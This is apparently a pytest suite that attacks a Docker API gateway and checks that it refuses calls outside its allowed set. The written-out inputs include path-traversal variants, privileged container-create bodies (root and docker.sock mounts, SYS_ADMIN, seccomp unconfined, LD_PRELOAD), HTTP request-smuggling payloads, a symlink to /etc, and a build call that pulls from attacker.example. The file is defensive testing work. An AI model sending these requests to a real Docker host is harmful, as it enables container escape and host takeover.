"""A client of the Docker gateway that tries more than the calls of RTM. On a real Docker, which none of it reaches."""

import json
import random
import re
import socket
from collections.abc import Iterator, Mapping
from dataclasses import dataclass, replace
from pathlib import Path
from tempfile import TemporaryDirectory
from typing import Any

import pytest

from runtimes.container_spec import LABEL_STACK
from runtimes.containers.docker.payloads import create_request
from runtimes.gateway.calls import Role
from runtimes.gateway.create_rules import CreateRules
from tests.contract.container_backends import Lab, container_policy
from tests.servers.docker_gateway import RunningGateway, running_gateway
from tests.servers.docker_recorder import DockerRecorder, docker_recorder
from tests.servers.sandbox import Playground

_SECONDS = 20.0
# What the gateway reads to find out what a call is about.
_PREPARING = re.compile(r"GET (/v1\.\d+)?/(version|info|containers/[^/?]+/json|images/[^?]+/json)")
GENERATED = 300


@dataclass(frozen=True)
class Field:
    """A gateway with a running game of its stack, a running container of another stack, and their ids.

    The tests write version 1.41. What is sent has ``version``, that of the engine: a newer one refuses 1.41 itself.
    """

    gateway: RunningGateway
    recorder: DockerRecorder
    lab: Lab
    own_id: str
    foreign_id: str
    foreign_name: str
    version: str

    def send(self, role: Role, raw: bytes) -> tuple[int, bytes]:
        """Status and body of the first response; the status is 0 if the connection ended without one."""
        with socket.socket(socket.AF_UNIX) as client:
            client.settimeout(_SECONDS)
            client.connect(self.gateway.host(role).removeprefix("unix://"))
            client.sendall(raw)
            received = b""
            while part := client.recv(65536):
                received += part
        head, _, body = received.partition(b"\r\n\r\n")
        match = re.match(rb"HTTP/1\.[01] (\d+)", head)
        return (int(match[1]) if match else 0), body

    def call(self, role: Role, method: str, target: str, body: Any = None, **headers: str) -> tuple[int, bytes]:
        return self.send(role, self.raw(method, target, body, headers))

    def fill(self, target: str) -> str:
        target = target.replace("{own}", self.own_id).replace("{foreign}", self.foreign_id)
        return target.replace("{foreign_name}", self.foreign_name).replace("v1.41", f"v{self.version}")

    def raw(self, method: str, target: str, body: Any = None, headers: Mapping[str, str] | None = None) -> bytes:
        content = body if isinstance(body, bytes) else b"" if body is None else json.dumps(body).encode()
        target = self.fill(target)
        given = {"Host": "docker", "Connection": "close", "Content-Length": str(len(content)), **(headers or {})}
        if body is not None:
            given.setdefault("Content-Type", "application/json")
        lines = [f"{method} {target} HTTP/1.1", *(f"{name}: {value}" for name, value in given.items() if value)]
        return "\r\n".join([*lines, "", ""]).encode("latin-1") + content


@pytest.fixture
def field(real_lab: Lab, playground: Playground, docker_host: str) -> Iterator[Field]:
    if not docker_host.startswith("unix://"):
        pytest.skip("the gateway needs the socket of Docker")
    policy = container_policy(stack=playground.stack, network=playground.network, state_root=playground.state_root)
    spec = real_lab.spec()
    foreign = real_lab.spec()
    foreign_id = real_lab.containers.create(
        replace(foreign, labels={**foreign.labels, LABEL_STACK: f"{playground.stack}-other"})
    )
    real_lab.containers.start(foreign_id)
    own_id = real_lab.containers.create(spec)
    real_lab.containers.start(own_id)
    with (
        TemporaryDirectory(prefix="rtm-attack-") as directory,
        docker_recorder(Path(directory) / "docker.sock", docker_host) as recorder,
        running_gateway(Path(directory) / "gateway", CreateRules(policy), docker_host=recorder.host) as gateway,
    ):
        version = playground.client.version()["ApiVersion"]
        yield Field(gateway, recorder, real_lab, own_id, foreign_id, foreign.name, version)
    real_lab.containers.remove(foreign_id, grace_seconds=0)


def assert_nothing_happened(field: Field, playground: Playground, before: list[tuple[str, str]]) -> None:
    reached = [line for line in field.recorder.requests() if not _PREPARING.fullmatch(line)]
    assert reached == []
    assert containers_of(playground, field) == before


def containers_of(playground: Playground, field: Field) -> list[tuple[str, str]]:
    """Id and state of each container of the test, and of any that an attack could have made."""
    found = playground.client.api.containers(all=True)
    prefix = f"/galaxy-game-{field.lab.game_id_prefix}"
    return sorted(
        (one["Id"], one["State"]) for one in found if any(name.startswith((prefix, "/attack")) for name in one["Names"])
    )


# Other calls than those of RTM, on any container.
ON_ANY = """
POST /exec
POST /attach?stream=1&stdin=1
GET /attach/ws
GET /archive?path=/etc
PUT /archive?path=/
GET /export
POST /update
POST /restart
POST /kill
POST /pause
POST /resize?h=1&w=1
GET /top
GET /changes
POST /checkpoints
"""
# Calls of RTM, on a container that is not ours.
ON_FOREIGN = """
GET /logs?stdout=1
GET /stats?stream=false
POST /start
POST /stop?t=0
POST /wait
POST /rename?name=galaxy-game-x
DELETE ?force=True&v=True
"""
# Other calls, other containers and networks, and spellings of paths and queries.
OTHERS = """
POST /v1.41/containers/{own}/rename?name={foreign_name}
POST /v1.41/containers/{own}/rename?name=../x
POST /v1.41/build?remote=http://attacker.example
POST /v1.41/build/prune
POST /v1.41/commit?container={own}
POST /v1.41/containers/prune
POST /v1.41/images/prune
POST /v1.41/networks/prune
POST /v1.41/volumes/prune
GET /v1.41/volumes
POST /v1.41/volumes/create
DELETE /v1.41/volumes/x
GET /v1.41/plugins
POST /v1.41/plugins/pull?remote=x
POST /v1.41/swarm/init
GET /v1.41/swarm
POST /v1.41/services/create
GET /v1.41/secrets
GET /v1.41/configs
GET /v1.41/nodes
POST /v1.41/session
POST /v1.41/grpc
POST /v1.41/auth
GET /v1.41/system/df
POST /v1.41/images/load
GET /v1.41/images/json
GET /v1.41/images/get?names=x
DELETE /v1.41/images/x
POST /v1.41/images/create?fromSrc=-&repo=x
POST /v1.41/images/create?fromImage=..%2Fx&tag=1
POST /v1.41/networks/create
DELETE /v1.41/networks/bridge
GET /v1.41/networks/host
GET /v1.41/networks
GET /v1.41/networks?filters=%7B%22name%22%3A%5B%22host%22%5D%7D
GET /v1.41/containers/json?filters=%7B%22label%22%3A%5B%22com.galaxy.stack%3Dother%22%5D%7D
GET /v1.41/containers/json?filters=%7B%22label%22%3A%5B%5D%2C%22label%22%3A%5B%5D%7D
GET /v1.41/events?filters=%7B%22type%22%3A%5B%22image%22%5D%2C%22image%22%3A%5B%22x%22%5D%7D
POST /v1.41/../v1.41/containers/{own}/exec
POST /v1.41/containers/{own}/../{foreign}/stop
POST /v1.41/containers/{own}/%2e%2e/{foreign}/stop
POST /v1.41/containers/{own}%2f..%2f{foreign}/stop
POST //v1.41/containers/{own}/exec
POST /v1.41//containers/{own}/stop
POST /v1.41/containers//{foreign}/stop
POST /V1.41/containers/{own}/stop
POST /v1.41/CONTAINERS/{own}/stop
POST /v1.41/containers/{own}/STOP
POST /v1.41/containers/{own}/stop/
POST /v1.41/containers/{own}/stop;x
POST /v1.41/containers/{own}/stop%00
POST /v1.41/containers/{own}/st%6fp
POST /v1.41/containers/{own}/stop?t=1&t=2
POST /v1.41/containers/{own}/stop?T=1
POST /v1.41/containers/{own}/stop?t=1&signal=KILL
POST /v1.40/containers/{own}/stop
POST /v1.41/v1.41/containers/{own}/stop
POST http://docker/v1.41/containers/{own}/stop
CONNECT docker:2375
post /v1.41/containers/{own}/stop
HEAD /v1.41/containers/{own}/archive?path=/
OPTIONS *
GET /v1.41/images/..%2f..%2fcontainers%2f{foreign}/json
GET /v1.41/images/%2e%2e/containers/{foreign}/json
DELETE /v1.41/containers/{foreign}?link=True
DELETE /v1.41/containers/{own}/../{foreign}?force=True
"""


def calls() -> list[tuple[str, str]]:
    """Method and target of each attempt."""
    containers = [(ON_ANY, name) for name in ("{own}", "{foreign}", "{foreign_name}")]
    containers += [(ON_FOREIGN, name) for name in ("{foreign}", "{foreign_name}")]
    lines = [
        line.replace(" ", f" /v1.41/containers/{name}", 1)
        for text, name in containers
        for line in text.split("\n")
        if line
    ]
    pairs = [line.partition(" ") for line in [*lines, *OTHERS.strip().split("\n")]]
    return [(method, target) for method, _, target in pairs]


CALLS = calls()


@pytest.mark.parametrize("role", Role)
def test_no_call_beyond_those_of_rtm_reaches_docker(field: Field, playground: Playground, role: Role) -> None:
    before = containers_of(playground, field)

    statuses = {f"{method} {target}": field.call(role, method, target)[0] for method, target in CALLS}

    assert {call: status for call, status in statuses.items() if status not in {400, 403, 404}} == {}
    assert_nothing_happened(field, playground, before)
    assert sum(field.gateway.gateway.refusals.values()) >= len(CALLS) - 10


def test_a_foreign_container_shows_only_who_has_the_name(field: Field) -> None:
    for role in Role:
        status, body = field.call(role, "GET", "/v1.41/containers/{foreign}/json")
        shown = json.loads(body)

        assert status == 200
        assert set(shown) == {"Id", "Name", "State", "Config"}
        assert set(shown["State"]) == {"Status"}
        assert set(shown["Config"]) == {"Image", "Labels"}


ROOT = {"Type": "bind", "Source": "/", "Target": "/host", "ReadOnly": False}
BODIES: Mapping[str, Mapping[str, Any]] = {
    "the root of the host": {"Mounts": [ROOT]},
    "the socket of Docker": {"Mounts": [{**ROOT, "Source": "/var/run/docker.sock"}]},
    "binds": {"Binds": ["/:/host"]},
    "capabilities": {"CapAdd": ["SYS_ADMIN"]},
    "no dropped capabilities": {"CapDrop": []},
    "privileged": {"Privileged": True},
    "privileged in lower case": {"privileged": True},
    "host processes": {"PidMode": "host"},
    "host network": {"NetworkMode": "host"},
    "host ipc": {"IpcMode": "host"},
    "host users": {"UsernsMode": "host"},
    "devices": {"Devices": [{"PathOnHost": "/dev/kmsg", "PathInContainer": "/dev/kmsg", "CgroupPermissions": "rwm"}]},
    "unconfined": {"SecurityOpt": ["seccomp=unconfined", "apparmor=unconfined"]},
    "volumes of another container": {"VolumesFrom": ["{foreign}"]},
    "no limits": {"Memory": 0, "MemorySwap": -1, "PidsLimit": -1, "NanoCpus": 0},
    "published port": {"PortBindings": {"8080/tcp": [{"HostPort": "0"}]}},
    "restart policy": {"RestartPolicy": {"Name": "always"}},
    "cgroup parent": {"CgroupParent": "/"},
}


def test_no_container_beyond_the_specification_is_created(field: Field, playground: Playground) -> None:
    spec = field.lab.spec()
    (field.lab.state_root / spec.labels["com.galaxy.game_id"]).mkdir(exist_ok=True)
    good = create_request(spec)
    path = f"/v1.41/containers/create?name={spec.name}"
    before = containers_of(playground, field)

    tried = {what: {**good, "HostConfig": {**good["HostConfig"], **changed}} for what, changed in BODIES.items()}
    tried["another command"] = {**good, "Cmd": ["sh"]}
    tried["more environment"] = {**good, "Env": [*good["Env"], "LD_PRELOAD=/x"]}
    tried["another stack"] = {**good, "Labels": {**good["Labels"], LABEL_STACK: "other"}}
    statuses = {what: field.call(Role.OPERATE, "POST", path, body)[0] for what, body in tried.items()}
    text = json.dumps(good)
    doubled = text.replace('"Init": true', '"Privileged": true, "Init": true, "Privileged": false').encode()
    for what, raw in {
        "duplicate keys": doubled,
        "huge": b" " * 70_000 + text.encode(),
        "NaN": text.replace("true", "NaN", 1).encode(),
    }.items():
        statuses[what] = field.call(Role.OPERATE, "POST", path, raw)[0]
    statuses["other name"] = field.call(Role.OPERATE, "POST", "/v1.41/containers/create?name=attack", good)[0]
    statuses["no name"] = field.call(Role.OPERATE, "POST", "/v1.41/containers/create", good)[0]
    statuses["platform"] = field.call(Role.OPERATE, "POST", f"{path}&platform=linux", good)[0]
    statuses["watch"] = field.call(Role.WATCH, "POST", path, good)[0]
    statuses["text/plain"] = field.call(Role.OPERATE, "POST", path, good, **{"Content-Type": "text/plain"})[0]

    assert {what: status for what, status in statuses.items() if status != 403} == {}
    assert_nothing_happened(field, playground, before)
    # The same request without a change is accepted.
    assert field.call(Role.OPERATE, "POST", path, good)[0] == 201


def test_a_state_directory_that_became_a_link_is_neither_created_on_nor_started(
    field: Field, playground: Playground
) -> None:
    first, second = field.lab.spec(), field.lab.spec()
    created, body = field.call(
        Role.OPERATE, "POST", f"/v1.41/containers/create?name={first.name}", create_request(first)
    )
    before = containers_of(playground, field)
    for spec in (first, second):
        directory = Path(spec.state_path)
        directory.rmdir()
        directory.symlink_to("/etc")

    started, _ = field.call(Role.OPERATE, "POST", f"/v1.41/containers/{json.loads(body)['Id']}/start")
    linked, reason = field.call(
        Role.OPERATE, "POST", f"/v1.41/containers/create?name={second.name}", create_request(second)
    )

    assert (created, started, linked) == (201, 403, 403)
    assert b"symbolic link" in reason
    assert containers_of(playground, field) == before
    assert not [line for line in field.recorder.requests() if "start" in line or second.name in line]


def test_requests_inside_requests_do_not_reach_docker(field: Field, playground: Playground) -> None:
    inner = field.raw("POST", "/v1.41/containers/{own}/stop?t=0")
    unknown = field.raw("POST", "/v1.41/containers/{own}/exec", {"Cmd": ["sh"]})
    before = containers_of(playground, field)
    head = field.fill("POST /v1.41/containers/{own}/start HTTP/1.1\r\nHost: docker\r\n").encode()
    chunk = f"{len(inner):x}\r\n".encode() + inner + b"\r\n0\r\n\r\n"
    tries = [
        head + b"Transfer-Encoding: chunked\r\n\r\n" + chunk,
        head + b"Content-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + inner,
        head + b"Transfer-Encoding: xchunked\r\nContent-Length: 0\r\n\r\n" + inner,
        head + b"Transfer-Encoding : chunked\r\n\r\n" + chunk,
        head + b"Content-Length: 0\r\nContent-Length: %d\r\n\r\n" % len(inner) + inner,
        head + b"Content-Length: 0, 5\r\n\r\n" + inner,
        head + b"Content-Length: +0\r\n\r\n" + inner,
        head + b"Content-Length: -1\r\n\r\n" + inner,
        head + b"Content-Length: %d\r\n\r\n" % len(inner) + inner,
        head + b"Connection: Upgrade\r\nUpgrade: tcp\r\n\r\n" + inner,
        head + b"Upgrade: h2c\r\nHTTP2-Settings: x\r\n\r\n" + inner,
        head + b"Expect: 100-continue\r\nContent-Length: 0\r\n\r\n" + inner,
        head + b"Content-Encoding: gzip\r\n\r\n" + inner,
        head + b"X: a\r\n b\r\nTransfer-Encoding: chunked\r\n\r\n" + chunk,
        b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + inner,
        field.fill("POST /v1.41/containers/x/start\r\n\r\n").encode() + inner,
        unknown + inner,
    ]  # fmt: skip

    statuses = [field.send(Role.OPERATE, raw)[0] for raw in tries]

    assert set(statuses) <= {400, 403}
    assert_nothing_happened(field, playground, before)


@pytest.mark.parametrize("role", Role)
def test_generated_requests_reach_docker_only_as_calls_of_the_role(
    field: Field, playground: Playground, role: Role
) -> None:
    chance = random.Random(20261130)  # noqa: S311 - the same cases each time
    parts = [
        "v1.41", "v1.0", "containers", "{own}", "{foreign}", "{foreign_name}", "images", "networks", "exec", "stop",
        "json", "create", "start", "archive", "..", ".", "%2e%2e", "%2f", "", "attach", "kill", "prune", "build",
        "commit", "volumes", "swarm", "x", "\x7f",
    ]  # fmt: skip
    queries = ["", "?", "?force=True", "?t=0", "?path=/", "?all=1&all=0", "?filters={}", "?name=attack", "?%00=1", "#x"]
    before = containers_of(playground, field)

    for _ in range(GENERATED):
        path = "/" + "/".join(chance.choices(parts, k=chance.randint(1, 5)))
        method = chance.choice(["GET", "POST", "PUT", "DELETE", "HEAD", "PATCH"])
        body = chance.choice([None, {}, {"HostConfig": {"Privileged": True, "Binds": ["/:/x"]}, "Image": "x"}])
        field.call(role, method, path + chance.choice(queries), body)

    assert containers_of(playground, field) == before
    assert [line for line in field.recorder.requests() if not line.startswith("GET ")] == []
